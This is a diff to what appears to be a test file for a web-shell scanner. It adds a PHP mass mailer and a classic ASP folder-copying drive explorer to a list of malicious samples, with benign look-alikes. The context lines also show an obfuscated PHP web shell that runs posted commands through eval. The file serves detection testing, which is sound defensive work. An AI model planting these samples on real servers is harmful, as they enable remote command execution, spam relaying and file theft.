@@ -37,6 +37,16 @@ const PAGES: [string, string, string][] = [
     '/srv/www/c.php',
     `<?php\n$a = "ba"."se6"."4_d"."eco"."de";\n$b = "gz"."inf"."lat"."e";\n$c = "st"."r_r"."ot1"."3";\n$d = $c("${rot13(deflateRawSync(Buffer.from(`${'echo "<p>row</p>";\n'.repeat(400)}if (isset($_POST["x"])) { echo shell_exec($_POST["x"]); }`)).toString('base64'))}");\n$e = $a($d);\n$f = $b($e);\neval($f);\n`,
   ],
+  [
+    'a mass mailer putting the message in the headers after their blank line, the body empty (H34)',
+    '/srv/www/m.php',
+    `<?php\n$message = $_POST['message']; $list = $_POST['emaillist']; $subject = $_POST['subject']; $from = $_POST['from'];\n$all = split("\\n", $list);\nfor ($x = 0; $x < count($all); $x++) {\n  $to = ereg_replace(" ", "", $all[$x]);\n  $header = "From: $from\\r\\nMIME-Version: 1.0\\r\\n\\r\\n";\n  $header .= "$message\\r\\n";\n  mail($to, $subject, "", $header);\n}\n`,
+  ],
+  [
+    'a classic ASP explorer of every drive copying the folders the request names (H32)',
+    '/inetpub/wwwroot/x.asp',
+    `<%\nIf Request.QueryString("CopyFolder") <> "" Then\n  Set FSO = CreateObject("Scripting.FileSystemObject")\n  FSO.CopyFolder Request.QueryString("CopyFolder") & "*", "e:\\stage\\"\nEnd If\nSet FS = Server.CreateObject("Scripting.FileSystemObject")\nFor Each D In FS.Drives\n  Response.Write "<option>" & D.DriveLetter & ":</option>"\nNext\n%>\n`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -60,6 +70,16 @@ const LOOKALIKES: [string, string, string][] = [
     '/srv/www/doc.php',
     `<?php\n$name = $_FILES['doc']['name'];\n$kind = pathinfo($name, PATHINFO_EXTENSION);\nif ($kind !== 'pdf') exit('PDF only');\nmove_uploaded_file($_FILES['doc']['tmp_name'], '/srv/docs/' . sha1($name) . '.pdf');\n`,
   ],
+  [
+    'a contact form mailing the site\'s own address with the visitor\'s message in the headers',
+    '/srv/www/contact.php',
+    `<?php\n$headers = "From: site@example.com\\r\\nReply-To: " . $_POST['email'] . "\\r\\n\\r\\n" . $_POST['message'];\nmail('office@example.com', 'Contact form', '', $headers);\n`,
+  ],
+  [
+    'a classic ASP disk report listing the drives and deleting only its own temporary files',
+    '/inetpub/wwwroot/disk.asp',
+    `<%\nSet FS = Server.CreateObject("Scripting.FileSystemObject")\nFor Each D In FS.Drives\n  Response.Write D.DriveLetter & ": " & D.FreeSpace & "<br>"\nNext\nIf Request.Form("clean") = "1" Then FS.DeleteFile Server.MapPath("tmp/*.tmp")\n%>\n`,
+  ],
 ];
 
 describe('scan: session 41 samples, the misses written again', () => {
@@ -69,12 +89,12 @@ describe('scan: session 41 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 5));
+  it('ran every page', () => assert.equal(PAGES.length, 7));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 4));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 6));
 });
